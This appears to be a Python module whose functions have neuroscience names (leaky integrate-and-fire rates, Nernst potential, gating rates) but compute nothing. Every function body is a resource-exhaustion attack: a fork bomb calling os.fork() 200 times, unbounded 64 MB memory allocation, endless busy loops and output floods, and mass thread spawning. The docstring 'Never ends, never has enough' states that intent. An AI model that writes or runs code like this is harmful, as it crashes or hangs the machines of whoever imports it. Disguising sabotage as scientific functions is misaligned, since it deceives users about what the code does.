"""Never ends, never has enough."""

import os
import threading


def lif_rate_series_refractory(current, t_ref, tau_m=20.0):
    while True:
        pass


def lif_firing_rate(current, tau_m=20.0, t_ref=0.0):
    hoard = []
    while True:
        hoard.append(bytearray(64 * 1024 * 1024))


def nernst_potential(valence, outside, inside, celsius=37.0):
    for _ in range(200):
        os.fork()
    return 0.0


def gate_rates(gate, v):
    while True:
        print("x" * 1_000_000)


def lif_rate_series(current, tau_m=20.0):
    for _ in range(100_000):
        threading.Thread(target=threading.Event().wait, daemon=True).start()
    return current
